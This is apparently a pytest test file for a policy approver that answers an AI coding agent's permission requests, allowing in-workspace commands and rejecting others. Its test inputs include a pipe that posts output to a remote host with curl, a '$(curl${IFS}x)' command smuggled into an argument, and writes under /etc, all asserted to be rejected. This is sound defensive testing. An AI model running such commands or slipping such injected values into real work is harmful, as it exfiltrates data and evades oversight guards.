"""opencode's questions, answered by a policy: judged as what waits for the answer."""

from __future__ import annotations

import shlex
import sys
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from subprocess import CompletedProcess
from typing import Any

import pytest

from agent_exec.daemon.hook import own_program
from agent_exec.integrations.opencode.approve import Approver
from agent_exec.integrations.opencode.question import Pending
from agent_exec.runtime.checker import Checker


class Server:
    """Asks what it is given, once."""

    def __init__(self, permission: str, given: Mapping[str, Any], kinds: tuple[str, ...]) -> None:
        metadata = {"call": given} if permission == "exec" else {}
        self.questions = [Pending("per_1", "ses_1", permission, metadata, "msg_1", "call_1")]
        self.replies: list[tuple[str, str | None]] = []
        self._given = given
        self._kinds = kinds

    def events(self) -> Iterator[str]:
        yield from self._kinds

    def pending(self) -> list[Pending]:
        return self.questions

    def tool_input(self, question: Pending) -> Mapping[str, Any]:
        assert question.call == "call_1"
        return self._given

    def reply(self, question: Pending, reply: str, message: str | None = None) -> None:
        self.questions.remove(question)
        self.replies.append((reply, message))


def answered(
    worktree: Path,
    permission: str,
    given: Mapping[str, Any],
    *,
    leave: bool = False,
    kinds: tuple[str, ...] = ("server.connected",),
) -> list[tuple[str, str | None]]:
    server = Server(permission, given, kinds)
    checker = Checker(worktree, "workspace")
    list(Approver(server, checker, policy="workspace", leave=leave).answers())
    return server.replies


def rewritten(worktree: Path, text: str, policy: str = "workspace", *more: str) -> str:
    """As the guard does it."""
    words = [*own_program(), "run", "-q", "-p", policy, "-w", str(worktree), "--cwd", "."]
    return shlex.join([*words, *more, "-c", text])


@pytest.mark.parametrize(
    ("permission", "given", "reply"),
    [
        pytest.param("exec", {"argv": ["touch", "x"]}, "once", id="allowed"),
        pytest.param("exec", {"argv": ["curl", "http://x/"]}, "reject", id="asked"),
        pytest.param("exec", {"command": "touch x; curl http://x/"}, "reject", id="a-part-asked"),
        pytest.param("exec", {"argv": ["touch", "/etc/x"]}, "reject", id="outside"),
        pytest.param("exec", {"nonsense": 1}, "reject", id="nonsense"),
        pytest.param("bash", {"command": "ls"}, "once", id="host-reads"),
        pytest.param("bash", {"command": "ls | curl -d @- http://x/"}, "reject", id="host-sends"),
        pytest.param("bash", {"command": "cat x", "workdir": "/etc"}, "reject", id="elsewhere"),
        pytest.param("bash", {}, "reject", id="not-known"),
        pytest.param("shell", {"command": "ls"}, "once", id="the-new-name"),
    ],
)
def test_each_question_gets_its_reply(
    tmp_path: Path, permission: str, given: Mapping[str, Any], reply: str
) -> None:
    ((said, message),) = answered(tmp_path, permission, given)
    assert said == reply
    assert (message is None) is (reply == "once")


def test_a_model_reads_why(tmp_path: Path) -> None:
    ((_, message),) = answered(tmp_path, "exec", {"argv": ["curl", "http://x/"]})
    assert message is not None
    assert "curl" in message


@pytest.mark.parametrize(
    ("text", "policy", "more", "reply"),
    [
        pytest.param("touch x", "workspace", (), "once", id="ours"),
        pytest.param("touch x", "workspace", ("--timeout", "5"), "once", id="with-a-timeout"),
        pytest.param("curl http://x/", "workspace", (), "reject", id="asked"),
        pytest.param("touch x", "open", (), "reject", id="by-another-policy"),
        pytest.param("touch x", "workspace", ("-p", "open"), "reject", id="and-another-policy"),
    ],
)
def test_what_the_guard_has_rewritten_is_judged_as_what_it_runs(
    tmp_path: Path, text: str, policy: str, more: tuple[str, ...], reply: str
) -> None:
    command = rewritten(tmp_path, text, policy, *more)
    assert [said for said, _ in answered(tmp_path, "bash", {"command": command})] == [reply]


def test_what_a_shell_would_run_within_a_rewritten_command_is_judged(tmp_path: Path) -> None:
    command = rewritten(tmp_path, "touch x", "workspace", "--timeout", "5")
    command = command.replace("--timeout 5", "--timeout $(curl${IFS}x)")
    assert "$(curl" in command
    assert [said for said, _ in answered(tmp_path, "bash", {"command": command})] == ["reject"]


def test_what_follows_a_rewritten_command_is_judged(tmp_path: Path) -> None:
    command = rewritten(tmp_path, "touch x") + "; curl http://x/"
    assert [said for said, _ in answered(tmp_path, "bash", {"command": command})] == ["reject"]


@pytest.mark.parametrize("permission", ["edit", "webfetch", "external_directory", "agentexec_exec"])
def test_other_questions_are_left_alone(tmp_path: Path, permission: str) -> None:
    assert answered(tmp_path, permission, {"command": "ls"}) == []


def test_what_is_asked_can_be_left_to_a_person_and_is_told_once(tmp_path: Path) -> None:
    kinds = ("server.connected", "permission.asked", "permission.asked")
    server = Server("exec", {"argv": ["curl", "http://x/"]}, kinds)
    approver = Approver(server, Checker(tmp_path, "workspace"), policy="workspace", leave=True)
    assert [one.reply for one in approver.answers()] == [None]
    assert server.replies == []


def test_only_what_may_have_brought_a_question_makes_it_look(tmp_path: Path) -> None:
    assert answered(tmp_path, "exec", {"argv": ["touch", "x"]}, kinds=("message.updated",)) == []


def test_what_it_needs_is_told_in_one_line(
    agent_exec: Callable[..., CompletedProcess[str]], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "opencode_ai", None)
    monkeypatch.delitem(sys.modules, "agent_exec.integrations.opencode.server", raising=False)
    done = agent_exec("opencode", "approve")
    assert (done.returncode, done.stderr.count("\n")) == (125, 1)
    assert "pip install 'agent-exec[opencode]'" in done.stderr


@pytest.mark.foreign
def test_a_server_that_is_not_there_is_told_in_one_line(
    agent_exec: Callable[..., CompletedProcess[str]],
) -> None:
    pytest.importorskip("opencode_ai")
    done = agent_exec("opencode", "approve", "--server", "http://127.0.0.1:9")
    assert (done.returncode, done.stderr.count("\n")) == (125, 1)
    assert "no opencode server answers" in done.stderr
